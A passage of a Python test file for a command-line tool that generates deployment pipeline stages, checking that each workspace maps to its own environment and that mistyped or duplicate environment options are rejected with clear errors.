            path = cache["inputs"]["path"]
            for name, value in variables.items():
                path = path.replace(f"$({name})", value)
            assert not base.startswith(path.rstrip("/") + "/"), (stage["stage"], path)


def test_each_workspace_can_deploy_to_its_own_environment(tmp_path: Path) -> None:
    """app/dev to an environment without checks, app/prod to the gated one: with one
    environment for every workspace, a dev change waited for the production approvers."""
    result = _init(CliRunner(), tmp_path, "--environment", "production",
                   "--environment", "app/dev=dev", "--auto-apply-routine")  # fmt: skip
    assert result.exit_code == 0, result.output
    main = yaml.safe_load((tmp_path / MAIN_FILE).read_text(encoding="utf-8"))
    given = {stage["parameters"]["workspace"]: stage["parameters"] for stage in main["stages"]}
    assert (given["app/dev"]["environment"], given["app/dev"]["routineEnvironment"]) == (
        "dev", "dev-routine",
    )  # fmt: skip
    assert given["app/prod"]["environment"] == "production"
    assert given["app/prod"]["routineEnvironment"] == "production-routine"

    typo = _init(CliRunner(), tmp_path, "--environment", "app/deb=dev", "--force")
    assert typo.exit_code == 2 and 'did you mean "app/dev"' in typo.output, typo.output
    two = _init(CliRunner(), tmp_path, "--environment", "a", "--environment", "b", "--force")
    assert two.exit_code == 2, two.output
    assert "one --environment without a workspace (the default)" in two.output
